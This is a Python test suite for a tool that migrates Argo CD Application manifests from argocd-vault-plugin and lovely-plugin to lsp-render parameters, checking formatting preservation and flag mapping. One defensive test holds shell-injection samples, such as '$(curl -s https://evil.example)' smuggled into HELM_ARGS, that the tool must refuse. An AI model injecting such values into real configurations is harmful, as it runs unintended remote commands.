"""``lsp-render migrate``: AVP Applications (AVP's own doc examples) rewritten to lsp-render.

The inputs under tests/data/migrate are argocd-vault-plugin's documented
Application examples (Apache-2.0, with their notice). Comments, key order and
quoting survive; what cannot be mapped is reported with exit 1 and nothing is
written; the parameters written are the ones ``lsp-render render`` reads.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.cli_helpers import Result, assert_failure, base_env, run

DATA = Path(__file__).resolve().parent / "data" / "migrate"


def _copy(tmp_path: Path, name: str) -> Path:
    target = tmp_path / name
    shutil.copyfile(DATA / name, target)
    return target


def _migrate(*args: str, cwd: Path) -> Result:
    return run(["migrate", *args], cwd=cwd, env=base_env(cwd))


def _plugin(path: Path) -> Any:
    return yaml.safe_load(path.read_text())["spec"]["source"]["plugin"]


def test_plain_avp_application_keeps_comments_order_and_quotes(tmp_path: Path) -> None:
    path = _copy(tmp_path, "avp-plain.yaml")
    before = path.read_text()
    preview = _migrate(path.name, cwd=tmp_path)
    assert preview.code == 0, preview.stderr
    assert preview.stdout.startswith("--- a/avp-plain.yaml\n+++ b/avp-plain.yaml\n")
    assert "-      name: argocd-vault-plugin # Don't include" in preview.stdout
    assert path.read_text() == before  # a preview writes nothing
    written = _migrate("--write", path.name, cwd=tmp_path)
    assert (written.code, written.stdout) == (0, "")
    after = path.read_text()
    assert _plugin(path) == {"name": "lsp-render"}
    # only the plugin name changed: the header, the inline comment and the quotes survive
    changed = [
        (old, new)
        for old, new in zip(before.splitlines(), after.splitlines(), strict=True)
        if old != new
    ]
    assert len(changed) == 1
    assert changed[0][1].startswith("      name: lsp-render")
    assert changed[0][1].endswith("# Don't include this if installing via sidecar")
    assert "    name: ''\n" in after and "server: 'https://kubernetes.default.svc'" in after


def test_helm_args_become_values_files(tmp_path: Path) -> None:
    path = _copy(tmp_path, "avp-helm-args.yaml")
    assert _migrate("--write", path.name, cwd=tmp_path).code == 0
    text = path.read_text()
    assert text.startswith("# From argoproj-labs/argocd-vault-plugin docs/usage.md")
    assert _plugin(path) == {
        "name": "lsp-render",
        "parameters": [
            {"name": "values-files", "array": ["values-dev.yaml", "values-dev-tag.yaml"]}
        ],
    }
    assert "        - name: values-files\n" in text  # the file's sequence indentation is kept
    source = yaml.safe_load(text)["spec"]["source"]
    assert list(source) == ["path", "plugin", "repoURL", "targetRevision"]


def _chart(root: Path) -> Path:
    app = root / "repo" / "your-app"
    (app / "templates").mkdir(parents=True)
    (app / "Chart.yaml").write_text("apiVersion: v2\nname: your-app\nversion: 0.1.0\n")
    (app / "values.yaml").write_text("someValue: default\nmoreStuff: [z]\nkeep: 1\n")
    (app / "templates" / "cm.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\n"
        "data:\n  values: {{ toJson .Values | quote }}\n"
    )
    return app


def _rendered_values(app: Path, *args: str, parameters: Any = None) -> Any:
    env = {"ARGOCD_APP_NAME": "your-application-name"}
    if parameters is not None:
        env["ARGOCD_APP_PARAMETERS"] = json.dumps(parameters)
    result = run(["render", str(app), "--no-secrets", *args], env=base_env(app), extra_env=env)
    assert result.code == 0, result.stderr
    return json.loads(str(result.objects()[0]["data"]["values"]))  # type: ignore[index]


def test_inline_helm_values_become_helm_parameters_with_the_same_values(tmp_path: Path) -> None:
    path = _copy(tmp_path, "avp-helm-values.yaml")
    inline = yaml.safe_load(path.read_text())["spec"]["source"]["plugin"]["env"][0]["value"]
    assert _migrate("--write", path.name, cwd=tmp_path).code == 0
    parameters = _plugin(path)["parameters"]
    assert [p["name"] for p in parameters] == ["helm-parameters"]
    assert parameters[0]["map"]["mysql.password"] == "<path:kv/data/mysql#password>"
    # Helm itself: the parameters give the values AVP's `-f <(echo "$HELM_VALUES")` gave
    app = _chart(tmp_path)
    values_file = tmp_path / "inline-values.yaml"
    values_file.write_text(inline)
    expected = _rendered_values(app, "-f", str(values_file))
    assert _rendered_values(app, parameters=parameters) == expected
    assert expected["moreStuff"] == ["a", "b", "c"]


@pytest.mark.parametrize(
    ("values", "needle"),
    [
        ("port: '8080'\n", "port would change type"),
        ("ratio: 1.5\n", "ratio would change type"),
        ("flag: 'True'\n", "flag would change type"),
        ("list: []\n", "list is empty"),
        ("a.b: x\n", "needs escaping"),
    ],
)
def test_inline_values_that_set_would_retype_are_refused(
    tmp_path: Path, values: str, needle: str
) -> None:
    path = _copy(tmp_path, "avp-helm-values.yaml")
    data = yaml.safe_load(path.read_text())
    data["spec"]["source"]["plugin"]["env"][0]["value"] = values
    path.write_text(yaml.safe_dump(data))
    before = path.read_text()
    result = _migrate("--write", path.name, cwd=tmp_path)
    assert_failure(result, 1, "avp-helm-values.yaml", "HELM_VALUES", needle, "values-files")
    assert path.read_text() == before


def test_vault_settings_are_dropped_with_a_note(tmp_path: Path) -> None:
    path = _copy(tmp_path, "avp-vault-namespace.yaml")
    unknown = _migrate(path.name, cwd=tmp_path)
    assert (unknown.code, unknown.stdout) == (0, "")  # vault-avp is not a name it knows
    result = _migrate("--plugin-name", "vault-avp", "--write", path.name, cwd=tmp_path)
    assert result.code == 0, result.stderr
    assert "VAULT_NAMESPACE dropped" in result.stderr
    assert _plugin(path) == {"name": "lsp-render"}


SHELL_AND_FLAGS = """\
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: web  # the web app
spec:
  project: default
  sources:
    - repoURL: https://example.org/repo.git
      path: apps/web
      plugin:
        name: argocd-vault-plugin-helm
        env:
          - name: HELM_ARGS
            value: "{args}"
          - name: ENV
            value: dev
          - name: AVP_KV_VERSION
            value: "2"
    - repoURL: https://example.org/other.git
      path: apps/other
      plugin:
        name: some-other-plugin
---
apiVersion: v1
kind: ConfigMap
metadata: {{name: untouched}}
"""


def test_helm_flags_map_to_parameters(tmp_path: Path) -> None:
    path = tmp_path / "app.yaml"
    args = "--include-crds -n web -f values.yaml --values=values-dev.yaml --set a.b=1,c=two"
    path.write_text(SHELL_AND_FLAGS.format(args=args))
    assert _migrate("--write", str(path), cwd=tmp_path).code == 0
    docs = list(yaml.safe_load_all(path.read_text()))
    first, second = docs[0]["spec"]["sources"]
    assert first["plugin"] == {
        "name": "lsp-render",
        "env": [{"name": "ENV", "value": "dev"}],
        "parameters": [
            {"name": "values-files", "array": ["values.yaml", "values-dev.yaml"]},
            {"name": "helm-parameters", "map": {"a.b": "1", "c": "two"}},
            {"name": "namespace", "string": "web"},
        ],
    }
    assert second["plugin"] == {"name": "some-other-plugin"}
    assert docs[1] == {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "untouched"}}
    assert "name: web  # the web app" in path.read_text()


def test_shell_pipelines_and_unknown_flags_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "app.yaml"
    for args, needle in (
        ("-f values.yaml $(curl -s https://evil.example)", "shell syntax"),
        ("-f values.yaml | tee /tmp/x", "shell syntax"),
        ("--skip-tests", "'--skip-tests'"),
        ("--set-file key=path", "'--set-file'"),
        ("--set list={a,b}", "shell syntax"),
    ):
        path.write_text(SHELL_AND_FLAGS.format(args=args))
        before = path.read_text()
        result = _migrate("--write", str(path), cwd=tmp_path)
        assert_failure(result, 1, "Application/web sources[0]", "HELM_ARGS", needle)
        assert path.read_text() == before


def test_invalid_yaml_and_symlinks_exit_2(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("kind: Application\nspec: [\n")
    assert_failure(_migrate(str(bad), cwd=tmp_path), 2, "bad.yaml", "not valid YAML")
    link = tmp_path / "link.yaml"
    link.symlink_to(DATA / "avp-plain.yaml")
    assert_failure(_migrate("--write", str(link), cwd=tmp_path), 2, "link.yaml", "symbolic")


def test_migrated_parameters_are_what_render_reads(tmp_path: Path) -> None:
    path = _copy(tmp_path, "avp-helm-args.yaml")
    assert _migrate("--write", path.name, cwd=tmp_path).code == 0
    parameters = _plugin(path)["parameters"]
    app = tmp_path / "repo" / "your-app"
    (app / "templates").mkdir(parents=True)
    (app / "Chart.yaml").write_text("apiVersion: v2\nname: your-app\nversion: 0.1.0\n")
    (app / "values.yaml").write_text("tag: default\nsize: s\n")
    (app / "values-dev.yaml").write_text("size: m\n")
    (app / "values-dev-tag.yaml").write_text("tag: v2\n")
    (app / "templates" / "cm.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\n"
        "data:\n  tag: {{ .Values.tag }}\n  size: {{ .Values.size }}\n"
    )
    env = {
        "ARGOCD_APP_NAME": "your-application-name",
        "ARGOCD_APP_PARAMETERS": json.dumps(parameters),
    }
    result = run(["render", str(app)], env=base_env(tmp_path), extra_env=env)
    assert result.code == 0, result.stderr
    assert result.objects()[0]["data"] == {"tag": "v2", "size": "m"}


def test_inline_values_mixed_with_value_files_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "app.yaml"
    text = SHELL_AND_FLAGS.format(args="-f values.yaml").replace(
        "          - name: ENV\n            value: dev\n",
        "          - name: HELM_VALUES\n            value: 'a: b'\n",
    )
    path.write_text(text)
    result = _migrate(str(path), cwd=tmp_path)
    assert_failure(result, 1, "HELM_VALUES", "order is unknown")


LOVELY_SET = """\
apiVersion: argoproj.io/v1alpha1
kind: ApplicationSet
metadata:
  name: apps
spec:
  goTemplate: true
  generators:
    - list:
        elements: [{name: web}, {name: api}]
  template:
    metadata:
      name: '{{.name}}'
    spec:
      project: default
      source:
        repoURL: https://example.org/repo.git
        path: 'apps/{{.name}}'
        plugin:
          name: argocd-lovely-plugin-v1.2
          env:
            - name: LOVELY_HELM_VALUES
              value: values.yaml values-prod.yaml
            - name: LOVELY_HELM_NAME
              value: '{{.name}}'
            - name: LOVELY_HELM_NAMESPACE
              value: prod
            - name: LOVELY_HELM_CRDS
              value: "true"
"""


def test_lovely_application_set_maps_its_helm_settings(tmp_path: Path) -> None:
    path = tmp_path / "appset.yaml"
    path.write_text(LOVELY_SET)
    assert _migrate("--write", str(path), cwd=tmp_path).code == 0
    text = path.read_text()
    plugin = yaml.safe_load(text)["spec"]["template"]["spec"]["source"]["plugin"]
    assert plugin == {
        "name": "lsp-render",
        "parameters": [
            {"name": "values-files", "array": ["values.yaml", "values-prod.yaml"]},
            {"name": "release-name", "string": "{{.name}}"},
            {"name": "namespace", "string": "prod"},
        ],
    }
    assert "      name: '{{.name}}'\n" in text  # the generator's templates keep their quotes
    patched = LOVELY_SET.replace("LOVELY_HELM_CRDS", "LOVELY_KUSTOMIZE_PATCH")
    path.write_text(patched)
    assert_failure(_migrate(str(path), cwd=tmp_path), 1, "LOVELY_KUSTOMIZE_PATCH", "lovely")
